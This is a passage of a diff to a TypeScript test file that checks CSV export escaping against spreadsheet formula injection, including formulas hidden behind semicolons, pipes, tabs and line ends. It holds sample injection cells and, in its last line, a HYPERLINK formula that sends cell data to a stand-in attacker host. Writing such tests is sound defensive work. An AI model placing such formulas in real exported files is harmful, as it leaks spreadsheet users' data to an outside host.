@@ -2,12 +2,12 @@ import { readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { parseCsv, toCsvLine, withFormula, withoutFormula } from '../../../hosts/import/csv.ts'
+import { parseCsv, readRecord, toCsvLine, withFormula, withoutFormula } from '../../../hosts/import/csv.ts'
 import { runInProcess } from '../cli/in-process.ts'
 import { operator } from '../cli/shortlink.ts'
 
 describe('a cell that a spreadsheet would run', () => {
-  it.each(['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', "'=1", "''-2"])(
+  it.each(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\r1', '\n1', '＝1+1', "'=1", "''-2"])(
     'a cell that a spreadsheet would run gets an apostrophe in front: %j',
     (cell) => {
       expect(withoutFormula(cell)).toBe(`'${cell}`)
@@ -15,7 +15,21 @@ describe('a cell that a spreadsheet would run', () => {
     },
   )
 
-  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01'])(
+  it.each([
+    ['https://a.example/;=1+1', "https://a.example/;'=1+1"],
+    ['x\t=1+1', "x\t'=1+1"],
+    ['x|@SUM(A1)', "x|'@SUM(A1)"],
+    ['a\n- b\r\n+1', "a\n'- b\r\n'+1"],
+    ['x;"=1+1"', `x;'"=1+1"`],
+    ["x;'=1", "x;''=1"],
+    ['\t=1', "'\t'=1"],
+  ])('a formula behind another separator or a line end gets an apostrophe, too: %j', (cell, guarded) => {
+    expect(withoutFormula(cell)).toBe(guarded)
+    expect(withFormula(guarded)).toBe(cell)
+    expect(toCsvLine([guarded])).toMatch(/^".*"\r\n$/s)
+  })
+
+  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01', 'Mozilla/5.0 (X11; Linux; +http)', 'a;b|c'])(
     'a harmless cell stays as it is: %j',
     (cell) => {
       expect(withoutFormula(cell)).toBe(cell)
@@ -26,17 +40,31 @@ describe('a cell that a spreadsheet would run', () => {
   it('every text survives escaping and reading back', () => {
     const cell = fc.oneof(
       fc.string(),
-      fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\r', '\n', ',', '"', 'a') }),
+      fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\r', '\n', ',', ';', '|', '"', 'a') }),
     )
     fc.assert(
       fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
         const [read = []] = parseCsv(toCsvLine(cells.map(withoutFormula)))
         expect(read.map(withFormula)).toEqual(cells)
-        for (const cell of read) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+        for (const cell of read) expect(cell).not.toMatch(/^[\t\r]|(?:^|[;|\t\r\n])[=+\-@]/)
+        const line = toCsvLine(cells.map(withoutFormula))
+        for (const separator of [';', '\t', '|'])
+          expect(cellsOf(line, separator).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
       }),
     )
   })
 })
+
+/** The cells that a spreadsheet sees which splits at another separator, where quotes may stay open. */
+function cellsOf(line: string, separator: string): string[] {
+  const cells: string[] = []
+  for (let at = 0; at < line.length; ) {
+    const { values, end } = readRecord(`${line}"`, at, true, separator) ?? { values: [], end: line.length }
+    cells.push(...values)
+    at = end
+  }
+  return cells
+}
 
 it('an export runs nothing in a spreadsheet and imports without loss, and only the owner can read the file of bad rows', async () => {
   const title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
